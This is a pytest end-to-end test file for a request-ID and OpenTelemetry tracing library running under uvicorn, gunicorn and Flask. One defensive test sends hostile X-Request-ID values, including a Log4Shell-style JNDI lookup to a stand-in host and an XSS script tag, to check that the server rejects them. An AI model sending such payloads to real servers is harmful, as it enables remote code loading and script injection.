"""End to end: real uvicorn/gunicorn servers on 127.0.0.1, real clients, a real OTLP collector (rotel).

What is asserted is what a user sees: headers on the wire, the spans the
collector printed, the server's own output.
"""

from __future__ import annotations

import socket
import uuid
from typing import Any

import httpx
import pytest

from .collector import Collector, free_port
from .conftest import server_env

pytestmark = pytest.mark.e2e


def test_uvicorn_spans_reach_the_collector_with_the_one_id(collector: Collector, start_uvicorn: Any) -> None:
    """A UUID request ID becomes the trace ID of a root server span the collector receives, with the service name."""
    server = start_uvicorn(server_env(collector, OTEL_SERVICE_NAME="e2e-fastapi"))
    rid = str(uuid.uuid4()).upper()
    r = httpx.get(f"{server.url}/items/5", headers={"X-Request-ID": rid})
    assert r.status_code == 200
    assert r.headers["x-request-id"] == rid
    trace_id = rid.replace("-", "").lower()
    assert r.headers["traceresponse"].startswith(f"00-{trace_id}-")
    (span,) = collector.wait_for_spans(1, trace_id=trace_id)
    assert span.parent_id == ""
    assert span.name == "GET /items/{item_id}"
    assert span.kind == "SPAN_KIND_SERVER"
    assert span.attributes["request.id"] == rid
    assert span.attributes["http.route"] == "/items/{item_id}"
    assert span.attributes["http.response.status_code"] == "200"
    assert span.attributes["server.address"] == "127.0.0.1"
    assert span.resource["service.name"] == "e2e-fastapi"
    assert span.span_id == r.headers["traceresponse"].split("-")[2]


def test_uvicorn_continues_the_callers_trace_over_grpc(collector: Collector, start_uvicorn: Any) -> None:
    """With a traceparent, the server span is the caller's child; OTLP/gRPC works as well as HTTP."""
    env = server_env(None, OTEL_EXPORTER_OTLP_PROTOCOL="grpc", OTEL_EXPORTER_OTLP_ENDPOINT=collector.grpc_endpoint)
    server = start_uvicorn(env)
    trace_id, parent = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"
    r = httpx.get(f"{server.url}/boom", headers={"traceparent": f"00-{trace_id}-{parent}-01", "X-Request-ID": "ord-1"})
    assert r.status_code == 500
    assert r.headers["x-request-id"] == "ord-1"
    (span,) = collector.wait_for_spans(1, trace_id=trace_id)
    assert span.parent_id == parent
    assert span.status == "STATUS_CODE_ERROR"
    assert span.attributes["request.id"] == "ord-1"
    assert span.attributes["error.type"] == "RuntimeError"


def test_uvicorn_keep_alive_and_sync_and_streaming_routes(collector: Collector, start_uvicorn: Any) -> None:
    """On one keep-alive connection each request has its own IDs, in async, sync and streaming routes."""
    server = start_uvicorn(server_env(collector))
    with httpx.Client(base_url=server.url) as c:
        a = c.get("/items/1", headers={"X-Request-ID": "conn-a"})
        b = c.get("/sync")
        s = c.get("/stream", headers={"X-Request-ID": "conn-s"})
        own = c.get("/own-header", headers={"X-Request-ID": "conn-o"})
    assert a.json()["request_id"] == "conn-a"
    assert b.json()["request_id"] == b.headers["x-request-id"] == b.json()["trace_id"] != "conn-a"
    assert s.text == "conn-s:0\nconn-s:1\nconn-s:2\n"
    assert own.headers.get_list("x-request-id") == ["conn-o"]


def _raw_get(port: int, header_line: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(b"GET /items/1 HTTP/1.1\r\nHost: 127.0.0.1\r\n" + header_line + b"\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    return data


@pytest.mark.parametrize(
    "value",
    [b"x" * 5000, b"${jndi:ldap://evil.example/a}", b"<script>alert(1)</script>", b"abc\x01def", "\u00e9".encode()],
)
def test_hostile_ids_on_the_wire(collector: Collector, start_uvicorn: Any, value: bytes) -> None:
    """Raw hostile header bytes: a 200 with a fresh 32-hex ID; the value never reaches the server's output."""
    server = start_uvicorn(server_env(collector))
    response = _raw_get(server.port, b"X-Request-ID: " + value)
    head = response.split(b"\r\n\r\n", 1)[0]
    assert head.startswith(b"HTTP/1.1 200"), head[:80]
    echoed = [
        line.split(b":", 1)[1].strip() for line in head.split(b"\r\n") if line.lower().startswith(b"x-request-id")
    ]
    assert len(echoed) == 1 and len(echoed[0]) == 32 and value not in response
    server.sigterm()
    assert value.decode("latin-1") not in server.output()
    assert "ignored an invalid X-Request-ID header" in server.output()


def test_sigterm_flushes_queued_spans_uvicorn(collector: Collector, start_uvicorn: Any) -> None:
    """With a 60 s batch delay, all 50 queued spans still reach the collector when uvicorn gets SIGTERM."""
    server = start_uvicorn(server_env(collector, OTEL_BSP_SCHEDULE_DELAY="60000"))
    with httpx.Client(base_url=server.url) as c:
        ids = [c.get("/items/1", headers={"X-Request-ID": f"flush-{i}"}).headers["x-request-id"] for i in range(50)]
    assert server.sigterm() in (0, -15)
    received = collector.wait_for_spans(50, name="GET /items/{item_id}")
    assert sorted(s.attributes["request.id"] for s in received) == sorted(ids)


def test_dead_collector_never_fails_a_request(start_uvicorn: Any) -> None:
    """Export to a port nobody listens on: every request still succeeds with its IDs; shutdown still ends."""
    dead = f"http://127.0.0.1:{free_port()}"
    server = start_uvicorn(server_env(None, OTEL_EXPORTER_OTLP_ENDPOINT=dead, OTEL_CORR_SHUTDOWN_TIMEOUT="1"))
    with httpx.Client(base_url=server.url) as c:
        responses = [c.get("/items/1") for _ in range(30)]
    assert all(r.status_code == 200 and len(r.headers["x-request-id"]) == 32 for r in responses)
    assert server.sigterm(timeout=30) in (0, -15)


def test_gunicorn_flask_spans_and_sigterm_flush(collector: Collector, start_gunicorn: Any) -> None:
    """Flask under a real gunicorn: IDs on the wire, streaming in context, spans flushed at SIGTERM."""
    server = start_gunicorn(server_env(collector, OTEL_SERVICE_NAME="e2e-flask", OTEL_BSP_SCHEDULE_DELAY="60000"))
    rid = uuid.uuid4().hex
    with httpx.Client(base_url=server.url) as c:
        r = c.get("/items/9", headers={"X-Request-ID": rid})
        s = c.get("/stream", headers={"X-Request-ID": "g-stream"})
        e = c.get("/boom", headers={"X-Request-ID": "g-err"})
    assert r.json()["trace_id"] == rid and r.headers["x-request-id"] == rid
    assert s.text == "g-stream:0\ng-stream:1\ng-stream:2\n"
    assert e.status_code == 500 and e.headers["x-request-id"] == "g-err"
    assert server.sigterm() == 0
    spans = collector.wait_for_spans(3)
    by_id = {sp.attributes["request.id"]: sp for sp in spans}
    assert by_id[rid].trace_id == rid and by_id[rid].parent_id == ""
    assert by_id[rid].name == "GET /items/<int:item_id>"
    assert by_id[rid].resource["service.name"] == "e2e-flask"
    assert by_id["g-err"].status == "STATUS_CODE_ERROR"
    assert by_id["g-stream"].attributes["http.response.status_code"] == "200"


def test_websocket_handshake_carries_the_ids(collector: Collector, start_uvicorn: Any) -> None:
    """A real websocket client sees the request ID and traceresponse on the handshake; one span is exported."""
    from websockets.sync.client import connect

    server = start_uvicorn(server_env(collector))
    with connect(f"ws://127.0.0.1:{server.port}/ws", additional_headers={"X-Request-ID": "ws-e2e"}) as conn:
        assert conn.recv(timeout=10) == "ws-e2e"
        assert conn.response is not None
        assert conn.response.headers["X-Request-ID"] == "ws-e2e"
        trace_id = conn.response.headers["traceresponse"].split("-")[1]
    (span,) = collector.wait_for_spans(1, trace_id=trace_id)
    assert span.attributes["request.id"] == "ws-e2e"
    assert span.attributes["http.route"] == "/ws"
